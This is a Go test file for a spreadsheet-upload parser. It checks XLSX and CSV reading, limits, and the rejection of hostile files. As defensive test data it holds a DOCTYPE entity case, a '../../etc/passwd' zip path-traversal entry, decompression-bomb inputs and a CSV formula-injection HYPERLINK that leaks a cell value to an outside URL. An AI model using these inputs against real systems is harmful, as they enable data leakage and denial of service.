package sheet_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"commissionportal/internal/problem"
	"commissionportal/internal/sheet"
)

const (
	relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	kinds     = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
)

// archive makes a ZIP of names and contents, in turn.
func archive(t testing.TB, parts ...string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	// Half of the package's time went into packing bombs well.
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestSpeed) })
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, parts[i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// bare makes a workbook whose one sheet is the given XML.
func bare(t testing.TB, sheetXML string, more ...string) string {
	t.Helper()
	return archive(t, append([]string{
		"_rels/.rels", relations + `<Relationship Id="r1" Type="` + kinds + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml", `<workbook xmlns:r="` + kinds + `"><sheets><sheet name="Data" sheetId="1" r:id="r1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels", relations + `<Relationship Id="r1" Type="` + kinds + `/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="r2" Type="` + kinds + `/sharedStrings" Target="/xl/sharedStrings.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml", sheetXML,
	}, more...)...)
}

func workbookOf(t testing.TB, rows string, more ...string) string {
	return bare(t, `<worksheet><sheetData>`+rows+`</sheetData></worksheet>`, more...)
}

func inline(texts ...string) string {
	var b strings.Builder
	b.WriteString("<row>")
	for _, s := range texts {
		b.WriteString(`<c t="inlineStr"><is><t>` + s + `</t></is></c>`)
	}
	return b.String() + "</row>"
}

const damage = "This workbook is damaged. Open it in a spreadsheet program and save it again."

func TestXLSX(t *testing.T) {
	t.Parallel()
	shared := func(s string) []string { return []string{"xl/sharedStrings.xml", "<sst>" + s + "</sst>"} }
	for _, tt := range []struct {
		name, in string
		o        sheet.Options
		want     string
	}{
		{"inline", workbookOf(t, inline("a", "b")+inline("1", "&lt;é&#x4E2D;")), sheet.Options{}, "a|b\n2: 1|<é中"},
		{"rows and cells with places", workbookOf(t, `<row r="3"><c r="B3" t="str"><v>x</v></c><c r="D3" t="str"><v>y</v></c></row><row r="10"><c r="D10"><v>1</v></c></row>`), sheet.Options{}, "|x||y\n10: |||1"},
		{"shared, rich, phonetic", workbookOf(t, `<row><c t="s"><v>1</v></c><c t="s"><v>0</v></c></row><row><c t="s"><v>2</v></c><c t="s"><v>9</v></c></row>`,
			shared(`<si><t>one</t></si><si><r><t>ri</t></r><r><t>ch</t></r></si><si><t>東京</t><rPh><t>とうきょう</t></rPh></si>`)...), sheet.Options{}, "rich|one\n2: 東京| <1 true This cell refers to a text that is not in the workbook.>"},
		{"prefixed names", strings.Clone(bare(t, `<x:worksheet><x:sheetData><x:row><x:c t="str"><x:v>a</x:v></x:c></x:row></x:sheetData></x:worksheet>`)), sheet.Options{}, "a"},
		{"escapes", workbookOf(t, inline("a")+inline("x_x000D__x000a_y_x005F_x0041__x_")), sheet.Options{}, "a\n2: x\\ny_x0041__x_"},
		{"truth, errors, formulas", workbookOf(t, inline("a", "b", "c", "d")+`<row><c t="b"><v>1</v></c><c t="e"><v>#N/A</v></c><c><f>1+1</f><v>2</v></c><c><f>1+1</f></c></row>`), sheet.Options{}, "a|b|c|d\n2: TRUE||2| <1 true This cell holds the error #N/A.> <3 true This cell holds a formula whose value was not saved.>"},
		{"numbers as Excel counts", workbookOf(t, inline("a", "b", "c", "d")+`<row><c><v>0.30000000000000004</v></c><c><v>1.5E+3</v></c><c><v>12345678901</v></c><c><v>1e300</v></c></row>`), sheet.Options{}, "a|b|c|d\n2: 0.3|1500|12345678901|1e+300"},
		{"no such sheet", workbookOf(t, inline("a")), sheet.Options{Sheet: "Else"}, `error: invalid: There is no sheet "Else". There are: Data.`},
		{"the sheet by name, in any case", workbookOf(t, inline("a")), sheet.Options{Sheet: "data"}, "a"},
		{"no cells", workbookOf(t, "<row/>"), sheet.Options{}, "error: invalid: This table has no column names."},
		{"too many columns", workbookOf(t, inline("a", "b", "c")), sheet.Options{Limits: sheet.Limits{Columns: 2}}, "error: too-large: This table has more than 2 columns."},
		{"a cell far out", workbookOf(t, inline("a")+`<row><c r="XFD2"><v>1</v></c></row>`), sheet.Options{}, "a\n2:  <-1 true This row has more cells than there are column names.>"},

		{"breaks off", bare(t, `<worksheet><sheetData>`+inline("a")+inline("1")), sheet.Options{}, "a\n2: 1\nerror: invalid: " + damage},
		{"malformed in the middle", workbookOf(t, inline("a")+inline("1")+"<row><c t=></row>"+inline("2")), sheet.Options{}, "a\n2: 1\nerror: invalid: " + damage},
		{"unknown entity", workbookOf(t, inline("a")+inline("&lol;")), sheet.Options{}, "a\nerror: invalid: " + damage},
		{"bad row number", workbookOf(t, `<row r="99999999"/>`), sheet.Options{}, "error: invalid: " + damage},
		{"bad reference", workbookOf(t, `<row><c r="1A"/></row>`), sheet.Options{}, "error: invalid: " + damage},
		{"entities", bare(t, `<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet><sheetData/></worksheet>`), sheet.Options{}, "error: invalid: This workbook has a document type declaration, which no spreadsheet program writes. It is not read."},
		{"one endless text", workbookOf(t, inline("a")+inline(strings.Repeat("x", 3<<20))), sheet.Options{}, "a\nerror: too-large: This workbook has a cell that is too long."},
		{"long cell", workbookOf(t, inline("a", "b")+inline(strings.Repeat("x", 40_000), "y")), sheet.Options{}, "a|b\n2: |y <0 true This cell has more than 32767 characters.>"},
		{"unpacks to too much", workbookOf(t, inline("a")+strings.Repeat(" ", 2<<20)), sheet.Options{Limits: sheet.Limits{Unpacked: 1 << 20}}, "error: too-large: This workbook unpacks to more than 1 MB. Save the sheet as CSV, or split it."},
		{"OpenDocument", archive(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "<x/>"), sheet.Options{}, "error: invalid: This is an OpenDocument file. Save it as .xlsx or CSV."},
		{"some archive", archive(t, "../../etc/passwd", "x"), sheet.Options{}, "error: invalid: This is not a table. Send a CSV or XLSX file."},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := dump(open(tt.in, tt.o)); got != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
}

// Dates are dates whatever they look like, codes keep their zeros.
func TestXLSXFormats(t *testing.T) {
	t.Parallel()
	f := excelize.NewFile()
	defer f.Close()
	set := func(cell string, value any, format string) {
		t.Helper()
		id, err := f.NewStyle(&excelize.Style{CustomNumFmt: &format})
		if err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(f.SetCellValue("Sheet1", cell, value), f.SetCellStyle("Sheet1", cell, cell, id)); err != nil {
			t.Fatal(err)
		}
	}
	day := time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC)
	want := "h|h|h|h|h|h|h|h|h\n2: 2026-03-10|2026-03-10|2026-03-10T14:05:06|14:05:06|00042|1234.5|0.25|1.5|7\n3: 2026-03-10||||||||"
	for i := range 9 {
		set(fmt.Sprintf("%c1", 'A'+i), "h", "@")
	}
	set("A2", day, "dd.mm.yyyy")
	set("B2", day, `[$-409]mmmm\ d`)
	set("C2", day.Add(14*time.Hour+5*time.Minute+6*time.Second), "m/d/yy h:mm")
	set("D2", 0.586875, "h:mm AM/PM")
	set("E2", 42, "00000")
	set("F2", 1234.5, `#,##0.00 "days"`)
	set("G2", 0.25, "[Red]0%;[Blue]-0%")
	set("H2", 1.5, "[h]:mm")
	set("I2", 7, "General")
	id, err := f.NewStyle(&excelize.Style{NumFmt: 14})
	if err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(f.SetCellValue("Sheet1", "A3", 46091), f.SetCellStyle("Sheet1", "A3", "A3", id)); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	if got := dump(open(b.String(), sheet.Options{})); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func data(t *testing.T, name string) string {
	t.Helper()
	dir := os.Getenv("SHARED_DATA")
	if dir == "" {
		dir = filepath.Join("..", "..", "..", "shared", "data")
	}
	b, err := os.ReadFile(filepath.Join(dir, name))
	if errors.Is(err, os.ErrNotExist) {
		t.Skipf("the shared data is not here: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// Real workbooks give what excelize finds in them.
func TestXLSXAgreesWithExcelize(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"files/good/employees_en.xlsx", "files/good/taizhou_bank_zh.xlsx"} {
		in := data(t, name)
		f, err := excelize.OpenReader(strings.NewReader(in))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := f.GetRows(f.GetSheetList()[0], excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		r, err := open(in, sheet.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(r.Sheets(), "|") != strings.Join(f.GetSheetList(), "|") {
			t.Errorf("sheets %q, want %q", r.Sheets(), f.GetSheetList())
		}
		n, compared := 0, 0
		for {
			row, err := r.Next()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			n++
			for i, c := range row.Cells {
				want := ""
				if i < len(rows[row.Line-1]) {
					want = strings.TrimSpace(strings.ReplaceAll(rows[row.Line-1][i], "\r\n", "\n"))
				}
				if strings.Contains(c, "-") && !strings.Contains(want, "-") || strings.Contains(want, ".") || strings.Contains(want, "E") {
					continue // a date, or a number with more digits than Excel shows
				}
				if compared++; c != want {
					t.Errorf("%s line %d column %d: %q, excelize has %q", name, row.Line, i, c, want)
				}
			}
		}
		if n < 10 || compared < 20 {
			t.Errorf("%s: %d rows, %d cells", name, n, compared)
		}
	}
}

func TestHostile(t *testing.T) {
	for name, want := range map[string]string{
		"xlsx_xml_bomb.xlsx":       "document type declaration",
		"docx_zip_bomb_300MB.docx": "", // a document, or too much: either is said
		"docx_truncated_763b.docx": "damaged",
		"enc_word.docx":            "password",
		"exe_named_docx.docx":      "not a table",
		"html_named_pdf.pdf":       "not a table",
		"pdf_javascript.pdf":       "not a table",
		"zip_named_docx.docx":      "not a table",
		"zip_slip.zip":             "not a table",
		"zero_bytes.pdf":           "empty",
	} {
		in := data(t, "files/hostile/"+name)
		start, before := time.Now(), allocated()
		r, err := open(in, sheet.Options{})
		for err == nil {
			_, err = r.Next()
		}
		if p := problem.As(err); p == nil || !strings.Contains(p.Detail(), want) {
			t.Errorf("%s: %v", name, err)
		}
		if took, used := time.Since(start), allocated()-before; took > 5*time.Second || used > 20<<20 {
			t.Errorf("%s: %v, %d MB", name, took, used>>20)
		}
	}
	if got, want := dump(open(data(t, "files/hostile/csv_formula_injection.csv"), sheet.Options{})), `=HYPERLINK("http://example.org/?x="&A1,"click")|Acme`; !strings.Contains(got, want) {
		t.Errorf("%s", got)
	}
}

func allocated() int64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return int64(m.TotalAlloc)
}

// TestBombs unpacks much from little: memory must not follow.
func TestBombs(t *testing.T) {
	// The bound counts what is not collected yet, so it needs the collector of production.
	defer debug.SetGCPercent(debug.SetGCPercent(100))
	many := `<?xml version="1.0"?><sst>` + strings.Repeat("<si><t>"+strings.Repeat("y", 30_000)+"</t></si>", 20) + "</sst>"
	for name, in := range map[string]string{
		"open tags":     bare(t, `<worksheet><sheetData>`+strings.Repeat("<a>", 1<<20)),
		"blank rows":    workbookOf(t, inline("a")+strings.Repeat("<row/>", 300_000)),
		"attributes":    workbookOf(t, inline("a")+"<row "+strings.Repeat(`x="" `, 1<<20)+"/>"),
		"comment":       workbookOf(t, inline("a")+"<!--"+strings.Repeat("x", 30<<20)+"-->"),
		"unused texts":  workbookOf(t, inline("a")+inline("1"), "xl/sharedStrings.xml", many+strings.Repeat(" ", 20<<20)),
		"cells at once": workbookOf(t, inline("a")+"<row>"+strings.Repeat(`<c><v>1</v></c>`, 300_000)+"</row>"),
	} {
		var peak uint64
		r, err := open(in, sheet.Options{})
		runtime.GC()
		var base runtime.MemStats
		runtime.ReadMemStats(&base)
		start := time.Now()
		for n := 0; err == nil; n++ {
			if _, err = r.Next(); err == nil && n%64 > 0 {
				continue // to look stops the world
			}
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			peak = max(peak, m.HeapAlloc-min(base.HeapAlloc, m.HeapAlloc))
		}
		if took := time.Since(start); peak > 16<<20 || took > 60*time.Second {
			t.Errorf("%s: %d MB, %v", name, peak>>20, took)
		}
		if !errors.Is(err, io.EOF) && problem.As(err) == nil {
			t.Errorf("%s: %v", name, err)
		}
		t.Logf("%s (%d kB): %v, %v", name, len(in)>>10, time.Since(start), err)
	}
}

func FuzzOpen(f *testing.F) {
	f.Add([]byte("a,b\n\"x\"\"y\",\n"))
	f.Add([]byte("\xff\xfea\x00,\x00b\x00\n\x00"))
	f.Add([]byte("sep=;\na;b\r1;\"2\r\n"))
	f.Add([]byte(workbookOf(f, inline("a", "b")+`<row r="2"><c r="B2" t="s"><v>0</v></c></row>`, "xl/sharedStrings.xml", "<sst><si><t>x</t></si></sst>")))
	limits := sheet.Limits{Unpacked: 1 << 20, Rows: 1000, Columns: 10, Cell: 100}
	f.Fuzz(func(t *testing.T, in []byte) {
		r, err := sheet.Open(bytes.NewReader(in), int64(len(in)), sheet.Options{Limits: limits})
		line := 0
		for err == nil {
			var row sheet.Row
			if row, err = r.Next(); err != nil {
				break
			}
			if len(row.Cells) != len(r.Header()) || r.Format() == "csv" && row.Line <= line {
				t.Fatalf("line %d after %d: %q under %q", row.Line, line, row.Cells, r.Header())
			}
			line = row.Line
			for _, c := range row.Cells {
				if len([]rune(c)) > 100 || strings.ContainsAny(c, "\x00\r\x1b") {
					t.Fatalf("%q", c)
				}
			}
		}
		if !errors.Is(err, io.EOF) && problem.As(err) == nil {
			t.Fatalf("%v", err)
		}
	})
}
